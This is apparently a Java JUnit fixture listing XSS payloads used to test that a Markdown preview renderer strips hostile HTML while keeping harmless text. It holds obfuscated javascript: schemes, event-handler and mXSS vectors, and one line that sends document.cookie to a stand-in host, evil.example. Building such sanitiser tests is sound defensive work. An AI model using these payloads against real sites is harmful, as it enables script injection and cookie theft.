package org.goalbook.markdown.preview;

import java.util.stream.Stream;

import org.junit.jupiter.params.provider.Arguments;

/**
 * Hostile notes, each with the harmless text that must still show. Shared by the renderer's unit test and the
 * WebView test, which renders them for real. Payloads that run try to set {@code document.title} or
 * {@code window.pwned}, so the WebView test can tell whether anything ran.
 */
public final class Payloads {
    private Payloads() {
    }

    public static Stream<Arguments> all() {
        return Stream.of(
                payload("script element", "Hello <script>document.title='pwned';window.pwned=1</script>world", "Hello"),
                payload("script block", "<script>\ndocument.title='pwned'\n</script>\n\nAfter the script", "After the script"),
                payload("javascript link", "[click me](javascript:document.title='pwned')", "click me"),
                payload("JavaScript mixed case", "[click me](JavaScript:document.title='pwned')", "click me"),
                payload("tab inside scheme", "<a href=\"java&#x09;script:document.title='pwned'\">click me</a>", "click me"),
                payload("newline inside scheme", "<a href=\"jav&#x0A;ascript:document.title='pwned'\">click me</a>", "click me"),
                payload("entity-encoded scheme", "<a href=\"&#106;avascript:document.title='pwned'\">click me</a>", "click me"),
                payload("padded decimal entities", "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099"
                        + "&#0000114&#0000105&#0000112&#0000116&#0000058document.title='pwned'\">click me</a>", "click me"),
                payload("colon entity", "<a href=\"javascript&colon;document.title='pwned'\">click me</a>", "click me"),
                payload("leading spaces", "<a href=\"   javascript:document.title='pwned'\">click me</a>", "click me"),
                payload("leading control char", "<a href=\"&#1;javascript:document.title='pwned'\">click me</a>", "click me"),
                payload("angle-bracket destination", "[click me](< javascript:document.title='pwned'>)", "click me"),
                payload("reference link", "[click me][x]\n\n[x]: javascript:document.title='pwned'", "click me"),
                payload("autolink", "<javascript:document.title='pwned'>", "document.title"),
                payload("vbscript link", "[click me](vbscript:msgbox(1))", "click me"),
                payload("data link", "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "click me"),
                payload("file link", "[click me](file:///etc/passwd)", "click me"),
                payload("relative link", "[click me](../secrets/notes.md)", "click me"),
                payload("protocol-relative link", "[click me](//evil.example/x)", "click me"),
                payload("image onerror", "Photo: <img src=x onerror=\"document.title='pwned'\">", "Photo:"),
                payload("file image", "![diagram](file:///home/me/diagram.png)", "diagram"),
                payload("data image", "![pixel](data:image/png;base64,iVBORw0KGgo=)", "pixel"),
                payload("relative image", "![local](images/a.png)", "local"),
                payload("srcset image", "<img src=\"https://ok.example/a.png\" alt=\"pic\" "
                        + "srcset=\"javascript:document.title='pwned'\"> caption", "caption"),
                payload("iframe", "<iframe src=\"https://evil.example/\"></iframe>\n\nAfter the frame", "After the frame"),
                payload("iframe srcdoc", "<iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe>ok", "ok"),
                payload("embed", "<embed src=\"https://evil.example/x.swf\"> after embed", "after embed"),
                payload("object", "<object data=\"https://evil.example/x\">fallback text</object>", "fallback text"),
                payload("form", "<form action=\"https://evil.example/\"><input name=q><button>Send</button></form>", "Send"),
                payload("svg onload", "<svg onload=\"document.title='pwned'\"><script>window.pwned=1</script>"
                        + "<text>svg text</text></svg>", "svg text"),
                payload("svg link", "<svg><a xlink:href=\"javascript:document.title='pwned'\"><text>svg link</text></a></svg>",
                        "svg link"),
                payload("style import", "<style>@import url(https://evil.example/x.css);"
                        + " body{background:url(https://evil.example/y)}</style>\n\nStyled note", "Styled note"),
                payload("style attribute", "<p style=\"background:url(javascript:document.title='pwned')\">styled</p>", "styled"),
                payload("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:document.title='pwned'\">"
                        + "\n\nStay here", "Stay here"),
                payload("base", "<base href=\"https://evil.example/\">\n\n[home](https://ok.example/)", "home"),
                payload("link stylesheet", "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">\n\nLinked", "Linked"),
                payload("event attributes", "<div onclick=\"document.title='pwned'\" onmouseover=document.title='pwned'>"
                        + "hover me</div>", "hover me"),
                payload("details ontoggle", "<details open ontoggle=\"document.title='pwned'\"><summary>More</summary>"
                        + "hidden</details>", "More"),
                payload("forged task box", "<input type=\"checkbox\" data-task=\"0\" data-goalbook-token=\"guess\"> fake task",
                        "fake task"),
                payload("mXSS math/style", "Formula: <math><mtext><table><mglyph><style><img src=x "
                        + "onerror=\"document.title='pwned'\">", "Formula:"),
                payload("mXSS noscript", "<noscript><p title=\"</noscript><img src=x onerror=\"document.title='pwned'\">\">"
                        + "</noscript> quiet", "quiet"),
                payload("textarea", "<textarea><script>window.pwned=1</script></textarea> after area", "after area"),
                payload("template", "<template><script>window.pwned=1</script></template> after template", "after template"),
                payload("target blank", "<a href=\"https://ok.example/\" target=\"_blank\">new window</a>", "new window"),
                payload("mailto with onclick", "<a href=\"mailto:me@example.com\" onclick=\"document.title='pwned'\">"
                        + "mail me</a>", "mail me"),
                payload("table cell", "| a |\n|---|\n| <script>window.pwned=1</script>cell text |", "cell text"),
                payload("task item", "- [ ] <img src=x onerror=\"document.title='pwned'\"> do it", "do it"),
                payload("journal page", """
                        ## Articles

                        - [Good read](https://ok.example/read) <img src=x onerror="document.title='pwned'">
                        - Notes: <script>fetch('https://evil.example/?' + document.cookie)</script>kept
                        - [Local copy](file:///C:/Users/me/article.html)

                        <a href="javascript:void(document.title='pwned')">Log</a> | [Books](#books)
                        """, "Good read"),
                payload("journal front matter", """
                        ---
                        title: "<script>window.pwned=1</script>Journal"
                        ---

                        Body text
                        """, "Body text"));
    }

    private static Arguments payload(String name, String markdown, String harmlessText) {
        return Arguments.of(name, markdown, harmlessText);
    }
}
